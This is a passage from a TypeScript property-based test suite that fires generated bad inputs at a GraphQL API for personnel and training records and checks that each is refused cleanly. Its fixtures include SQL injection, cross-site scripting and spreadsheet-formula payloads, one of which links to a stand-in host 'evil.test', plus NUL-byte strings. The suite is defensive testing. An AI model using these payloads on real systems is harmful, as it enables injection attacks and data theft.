    const query = `mutation(${keys.map((k) => `$${k}: CreateAccountInput!`).join(' ')}) { ${keys.map((k) => `${k}: createAccount(input: $${k}) { account { id } errors { code field message } }`).join(' ')} }`;
    await property('createAccount', fc.array(input, { minLength: 15, maxLength: 15 }), 30, 15, async (inputs) => {
      const res = await admin.gql(query, Object.fromEntries(keys.map((k, i) => [k, inputs[i]])));
      expectClean(res, inputs.map((i) => i.email));
      expectEachRefused(res, keys, inputs);
    });
  });

  for (const [name, client, args] of [
    ['createInvitation', () => organizer, 'personId'],
    ['exportPersonData', () => admin, 'personId'],
    ['erasePerson', () => admin, 'personId'],
    ['issueCalendarFeed', () => organizer, 'personId'],
    ['archive', () => organizer, 'id'],
    ['restore', () => organizer, 'id'],
  ] as const) {
    it(`${name}: ids that name no one (15 per request)`, async () => {
      const keys = aliases(15);
      const query = `mutation(${keys.map((k) => `$${k}: ID!`).join(' ')}) { ${keys.map((k) => `${k}: ${name}(${args}: $${k}) { errors { code field message } }`).join(' ')} }`;
      await property(name, fc.array(badId, { minLength: 15, maxLength: 15 }), 20, 15, async (ids) => {
        const res = await client().gql(query, Object.fromEntries(keys.map((k, i) => [k, ids[i]])));
        expectClean(res, ids);
        expectEachRefused(res, keys, ids);
      });
    });
  }

  it('redeemInvitation and signIn: bad NIPs as identifiers (15 per request)', async () => {
    const keys = aliases(15);
    const query = `mutation(${keys.map((k) => `$${k}: RedeemInvitationInput!`).join(' ')}) { ${keys.map((k) => `${k}: redeemInvitation(input: $${k}) { errors { code field message } }`).join(' ')} }`;
    const anonymous = server.client();
    await property('redeemInvitation', fc.array(fc.tuple(badNip, fc.string({ maxLength: 20 })), { minLength: 15, maxLength: 15 }), 20, 15, async (inputs) => {
      const res = await anonymous.gql(query, Object.fromEntries(keys.map((k, i) => [k, { nip: inputs[i]![0], code: inputs[i]![1], password: 'kata-sandi-yang-panjang-2026' }])));
      expectClean(res, inputs.map((i) => i[0]));
      expectEachRefused(res, keys, inputs);
    });
    const signIn = `mutation(${keys.map((k) => `$${k}: SignInInput!`).join(' ')}) { ${keys.map((k) => `${k}: signIn(input: $${k}) { errors { code field message } }`).join(' ')} }`;
    await property('signIn', fc.array(fc.oneof(badNip, badEmail), { minLength: 15, maxLength: 15 }), 10, 15, async (ids) => {
      const res = await anonymous.gql(signIn, Object.fromEntries(keys.map((k, i) => [k, { identifier: ids[i], password: 'salah-sekali-2026' }])));
      expectClean(res, ids);
      expectEachRefused(res, keys, ids);
    });
  });
});

// ---------------------------------------------------------------------------------------------
// Facilitators and agencies (names and contacts)

describe('facilitators and agencies refuse bad names and contacts', () => {
  it('createFacilitator and updateFacilitator (15 per request)', async () => {
    const input = fc.oneof(
      hostileText.map((name) => ({ name })),
      hostileText.filter((t) => t.trim() !== '').map((expertise) => ({ name: 'Dr. Rina', expertise })),
      badEmail.map((email) => ({ name: 'Dr. Rina', email })),
      badPhone.map((phone) => ({ name: 'Dr. Rina', phone })),
    );
    const keys = aliases(15);
    const create = `mutation(${keys.map((k) => `$${k}: CreateFacilitatorInput!`).join(' ')}) { ${keys.map((k) => `${k}: createFacilitator(input: $${k}) { facilitator { id } errors { code field message } }`).join(' ')} }`;
    await property('createFacilitator', fc.array(input, { minLength: 15, maxLength: 15 }), 30, 15, async (inputs) => {
      const res = await organizer.gql(create, Object.fromEntries(keys.map((k, i) => [k, { kind: 'WIDYAISWARA', ...inputs[i] }])));
      expectClean(res, inputs.flatMap((i) => [(i as any).email ?? '', (i as any).phone ?? '']));
      expectEachRefused(res, keys, inputs);
    });
    const update = `mutation(${keys.map((k) => `$${k}: UpdateFacilitatorInput!`).join(' ')}) { ${keys.map((k) => `${k}: updateFacilitator(input: $${k}) { errors { code field message } }`).join(' ')} }`;
    await property('updateFacilitator', fc.array(input, { minLength: 15, maxLength: 15 }), 30, 15, async (inputs) => {
      const res = await organizer.gql(update, Object.fromEntries(keys.map((k, i) => [k, { id: fixture.facilitatorId, version: fixture.facilitatorVersion, ...inputs[i] }])));
      expectClean(res, inputs.flatMap((i) => [(i as any).email ?? '', (i as any).phone ?? '']));
      expectEachRefused(res, keys, inputs);
    });
  });

  it('createAgencies and importAgencies: hostile names and codes, broken files', async () => {
    const agency = fc.oneof(
      hostileText.map((name) => ({ code: 'BARU-01', name })),
      fc.constantFrom(...SQL.filter((c) => /[^\w.-]/.test(c)), '=CMD', 'A', 'X'.repeat(41), 'KODE\u0000', 'ＫＯＤＥ', 'KO DE', 'KODE;1').map((code) => ({ code, name: 'Instansi Baru' })),
    ).map((a) => ({ ...a, level: 'DAERAH', timeZone: 'WIB' }));
    await property('createAgencies', fc.array(agency, { minLength: 20, maxLength: 20 }), 30, 20, async (input) => {
      const res = await organizer.gql(`mutation($i: [CreateAgencyInput!]!) { createAgencies(input: $i) { agencies { id } errors { code field message } } }`, { i: input });
      expectClean(res, []);
      expectEachRefused(res, ['createAgencies']);
    });
    const file = fc.oneof(
      fc.array(agency, { minLength: 1, maxLength: 20 }).map((as) => csvOf(['code', 'name', 'level', 'province', 'time_zone'], as.map((a) => [a.code, a.name, a.level, 'Bangka Belitung', a.timeZone]))),
      fc.array(agency, { minLength: 1, maxLength: 20 }).map((as) => Buffer.from(csvOf(['code', 'name', 'level', 'province', 'time_zone'], as.map((a) => [a.code, a.name, a.level, '', a.timeZone])), 'utf16le').toString('latin1')),
      fc.constantFrom('', 'code,name', 'code,name,level,province,time_zone\n"X,Y', 'code;name;level\nA;B'),
    );
    await property('importAgencies', fc.tuple(file, fc.boolean()), 60, 1, async ([csv, dryRun]) => {
      const res = await organizer.gql(`mutation($c: String!, $d: Boolean) { importAgencies(csv: $c, dryRun: $d) { created updated validRows rowErrors { row field code message } errors { code field message } } }`, { c: csv, d: dryRun });
      expectClean(res, []);
      const p = res.data?.importAgencies;
      if (!p) {
          expect(res.errors?.length).toBeGreaterThan(0);
          return;
        }
      const seen = JSON.stringify({ answer: p, file: csv.split('\n').map((line) => line.slice(0, 160)) }).slice(0, 1500);
      expect(p.created + p.updated, seen).toBe(0);
      expect(p.errors.length + p.rowErrors.length, seen).toBeGreaterThan(0);
    });
  });
});

// ---------------------------------------------------------------------------------------------

describe('oversized fields', () => {
  it('are refused with a code, never a 500, up to and past the body limit', async () => {
    const size = fc.integer({ min: 10_000, max: 1_000_000 });
    const field = fc.constantFrom('name', 'nip', 'csv', 'email', 'reason');
    await property('oversized', fc.tuple(size, field), 24, 1, async ([n, which]) => {
      const big = which === 'nip' ? '1'.repeat(n) : 'x'.repeat(n);
      const res = which === 'csv'
        ? await organizer.gql(`mutation($c: String!) { importPersons(csv: $c) { created rowErrors { code } errors { code } } }`, { c: `${ROSTER_HEADER.join(',')}\n${big},X,PNS,FUNGSIONAL,,,${fixture.agencyCode}` })
        : which === 'reason'
          ? await organizer.gql(`mutation($i: UnavailabilityInput!) { addUnavailability(input: $i) { errors { code } } }`, { i: { personId: fixture.personId, startsAt: '2027-03-01T00:00:00Z', endsAt: '2027-03-02T00:00:00Z', reason: big } })
          : await organizer.gql(`mutation($i: CreatePersonInput!) { createPerson(input: $i) { person { id } errors { code } } }`, {
            i: { agencyId: fixture.agencyId, employmentType: 'PNS', positionType: 'FUNGSIONAL', nip: which === 'nip' ? big : '199001012015011001', name: which === 'name' ? big : 'Siti Aminah', email: which === 'email' ? `${big}@a.co` : null },
          });
      expectClean(res, []);
      const errors = allErrors(res);
      expect(errors.length, JSON.stringify(res).slice(0, 300)).toBeGreaterThan(0);
    });
  });
});

describe('inert text', () => {
  it('SQL and markup in a name are stored as they are and read back unchanged', async () => {
    const before = await fingerprint();
    const nips = fc.sample(goodNip, { numRuns: 7, seed: SEED });
    const names = [`Robert'); DROP TABLE person;--`, `<script>alert(document.cookie)</script>`, `O'Brien " OR ""="`, `Nur; SELECT * FROM account`, `<img src=x onerror=alert(1)>`, `Siti \\' Aminah`, `Ñoño Çağlar 王`];
    const created: string[] = [];
    for (const [i, name] of names.entries()) {
      const res = await organizer.gql(`mutation($i: CreatePersonInput!) { createPerson(input: $i) { person { id name } errors { code } } }`, {
        i: { agencyId: fixture.agencyId, employmentType: 'PNS', positionType: 'FUNGSIONAL', nip: nips[i], name },
      });
      expectClean(res, []);
      if (res.data.createPerson.errors.length) continue; // the NIP happened to be taken
      expect(res.data.createPerson.person.name).toBe(name);
      created.push(res.data.createPerson.person.id);
    }
    expect(created.length).toBeGreaterThan(4);
    const after = await fingerprint();
    expect(Number(after.person!.split('@')[0]) - Number(before.person!.split('@')[0])).toBe(created.length);
  });
});

describe('regressions the property found', () => {
  it('a NUL in any text is refused before the database (SQLite cut the statement there: a 500 showing SQL)', async () => {
    const before = await fingerprint();
    const res = await organizer.gql(`mutation($i: CreatePersonInput!) { createPerson(input: $i) { person { id } errors { code } } }`, {
      i: { agencyId: fixture.agencyId, employmentType: 'PNS', positionType: 'FUNGSIONAL', nip: '199102212012022994', name: 'Budi\u0000 Santoso' },
    });
    expect(res.status).toBe(400);
    expect(res.errors?.map((e) => e.extensions?.code)).toEqual([ERROR_CODES.INVALID_VALUE]);
    const literal = await server.client().gql(`mutation { signIn(input: { identifier: "x@y.z\\u0000", password: "salah-sekali-2026" }) { errors { code } } }`);
    expect(literal.errors?.map((e) => e.extensions?.code)).toEqual([ERROR_CODES.INVALID_VALUE]);
    expect(await fingerprint()).toEqual(before);
  });

  it('formula-like names, titles and e-mails are refused with input/invalid-value', async () => {
    const res = await organizer.gql(`mutation($a: CreatePersonInput!, $b: CreatePersonInput!, $c: CreatePersonInput!) {
      a: createPerson(input: $a) { person { id } errors { code field } }
      b: createPerson(input: $b) { person { id } errors { code field } }
      c: createPerson(input: $c) { person { id } errors { code field } } }`, {
      a: { agencyId: fixture.agencyId, employmentType: 'PNS', positionType: 'FUNGSIONAL', nip: '199102212012022994', name: '=HYPERLINK("http://evil.test","x")' },
      b: { agencyId: fixture.agencyId, employmentType: 'PNS', positionType: 'FUNGSIONAL', nip: '199102212012022994', name: 'Siti', position: '@SUM(A1:A2)' },
      c: { agencyId: fixture.agencyId, employmentType: 'PNS', positionType: 'FUNGSIONAL', nip: '199102212012022994', name: 'Siti', email: '"><script>@a.co' },
    });
    expect(res.data.a).toEqual({ person: null, errors: [{ code: ERROR_CODES.INVALID_VALUE, field: 'name' }] });
    expect(res.data.b).toEqual({ person: null, errors: [{ code: ERROR_CODES.INVALID_VALUE, field: 'position' }] });
    expect(res.data.c).toEqual({ person: null, errors: [{ code: ERROR_CODES.INVALID_VALUE, field: 'email' }] });
  });

  it('an unreadable superior is refused, not ignored', async () => {
    const res = await organizer.gql(`mutation($i: UpdatePersonInput!) { updatePerson(input: $i) { errors { code field } } }`, {
      i: { id: fixture.personId, version: fixture.personVersion, supervisorId: '196302251984021999' },
    });
    expect(res.data.updatePerson.errors).toEqual([{ code: ERROR_CODES.NOT_FOUND, field: 'supervisorId' }]);
  });

  it('an unavailable window from the year 0, or with a 1 MB reason, is refused', async () => {
    const add = (i: Record<string, unknown>) => organizer.gql(`mutation($i: UnavailabilityInput!) { addUnavailability(input: $i) { errors { code field } } }`, { i: { personId: fixture.personId, ...i } });
    expect((await add({ startsAt: '0000-01-01T00:00:00Z', endsAt: '2027-03-02T00:00:00Z' })).data.addUnavailability.errors).toEqual([{ code: ERROR_CODES.OUT_OF_RANGE, field: 'startsAt' }]);
    expect((await add({ startsAt: '2027-03-01T00:00:00Z', endsAt: '2027-03-02T00:00:00Z', reason: 'x'.repeat(999_000) })).data.addUnavailability.errors).toEqual([{ code: ERROR_CODES.OUT_OF_RANGE, field: 'reason' }]);
  });

  it('a score file with a header and no rows is refused as csv/empty', async () => {
    const res = await organizer.gql(`mutation($c: ID!) { importAssessments(cohortId: $c, csv: "nip,kind,score") { errors { code } } }`, { c: fixture.cohortId });
    expect(res.data.importAssessments.errors).toEqual([{ code: ERROR_CODES.CSV_EMPTY }]);
  });
});

describe('the count', () => {
  it(`sent at least ${INPUTS_REQUIRED} generated bad inputs`, () => {
    console.info(`bad-input: ${inputsSent} generated inputs, seed ${SEED}`);
    expect(inputsSent).toBeGreaterThanOrEqual(INPUTS_REQUIRED);
  });
});
